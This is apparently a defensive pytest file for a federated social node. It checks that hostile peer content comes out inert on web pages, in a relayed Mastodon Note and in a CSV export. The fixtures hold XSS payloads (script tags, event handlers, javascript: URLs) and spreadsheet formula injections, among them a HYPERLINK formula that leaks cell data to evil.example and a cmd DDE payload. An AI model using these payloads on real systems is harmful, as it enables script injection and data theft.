"""A peer's text is hostile everywhere it is shown: scripts, event handlers and
javascript: URLs in every displayed field must come out inert on the web pages,
in the Note a relay sends to Mastodon followers, and in the CSV export.
(Catalogue: CVE-2023-36459, CVE-2023-42452, the generic HTML-injection row.)"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from typing import Any

from schemas.vocab import Role
from tests.hostile.conftest import Net
from tests.hostile.harness import Actor

MARK = "1337"
PAYLOADS = {
    "name": f'<script>alert({MARK})</script>Rice <img src=x onerror="alert({MARK})">',
    "summary": f'<svg onload="alert({MARK})"></svg><a href="javascript:alert({MARK})">go</a>',
    "content": (
        f'<p onclick="alert({MARK})">Rice</p><a href="JaVaScRiPt:alert({MARK})">x</a>'
        f'<iframe src="javascript:alert({MARK})"></iframe><style>*{{}}</style>'
    ),
}
PLACE = f'<b onmouseover="alert({MARK})">Eastside</b>'
TAG = f'#<img src=x onerror="alert({MARK})">'


class _Unsafe(HTMLParser):
    """Collects everything in a document that could run script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "svg", "img", "style", "base"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag}[{name}]")
            if (value or "").strip().lower().startswith(("javascript:", "data:", "vbscript:")):
                self.found.append(f"{tag}[{name}={value}]")


def unsafe(markup: str) -> list[str]:
    parser = _Unsafe()
    parser.feed(markup)
    return parser.found


async def _hostile_item(net: Net) -> tuple[Actor, dict[str, Any]]:
    group = net.hostile.actor("hostile.test", "xss")
    await net.follow(group)
    item = group.proposal(
        "xss-1",
        **PAYLOADS,
        tag=[{"type": "Hashtag", "name": TAG}],
        location={
            "type": "Place",
            "name": PLACE,
            "latitude": 40.7,
            "longitude": -74.0,
            "radius": 1,
            "units": "km",
        },
    )
    create = group.activity("Create", group.prove(item, net.clock), "xss-1")
    assert (await net.send(group, create))[0] == 202
    await net.settle()
    assert (await net.outcomes())[create["id"]] == "done:item-stored"
    return group, item


async def _page(net: Net, path: str) -> str:
    from node.web.security import SESSION_COOKIE, node_cookie

    cookie = node_cookie(SESSION_COOKIE, net.target.url)
    response = await net.target.client.get(path, cookies={cookie: net.target.coordinator_token})
    assert response.status == 200, path
    return await response.text()


async def test_the_web_pages_show_a_peers_markup_inert(net: Net) -> None:
    _, item = await _hostile_item(net)
    feed = await _page(net, "/feed")
    assert "Rice" in feed, "the item is listed"
    shown = await _page(net, f"/feed/item?id={item['id']}")
    assert "Rice" in shown
    for page in (feed, shown):
        assert unsafe(page) == [], unsafe(page)


async def test_a_relayed_note_for_mastodon_followers_is_inert(net: Net) -> None:
    _, item = await _hostile_item(net)
    fan = net.hostile.actor("mastodon.test", "fan", software="mastodon")
    follow = fan.activity("Follow", net.target.actor_id, "fan")
    assert (await net.send(fan, follow))[0] == 202
    await net.settle()
    await net.target.call(
        "POST", "/api/v1/relays", {"id": item["id"]}, role=Role.COORDINATOR, expect=201
    )
    await net.settle()
    notes = [
        body["object"]
        for path, body in net.hostile.posts
        if path.startswith("mastodon.test") and body.get("type") == "Create"
    ]
    assert len(notes) == 1 and notes[0]["type"] == "Note"
    assert unsafe(notes[0]["content"]) == [], notes[0]["content"]
    assert "Rice" in notes[0]["content"]


async def test_the_csv_export_defuses_formulas(net: Net) -> None:
    group = net.hostile.actor("hostile.test", "sheet")
    await net.follow(group)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Rice")'
    item = group.proposal("csv-1", name=formula, summary="@SUM(1+1)*cmd|' /C calc'!A0")
    create = group.activity("Create", item, "csv-1")
    assert (await net.send(group, create))[0] == 202
    await net.settle()
    response = await net.target.client.get(
        "/api/v1/feed.csv", headers=net.target.headers(Role.COORDINATOR)
    )
    assert response.status == 200
    rows = list(csv.reader(io.StringIO(await response.text())))
    row = next(r for r in rows if item["id"] in r)
    assert "'" + formula in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
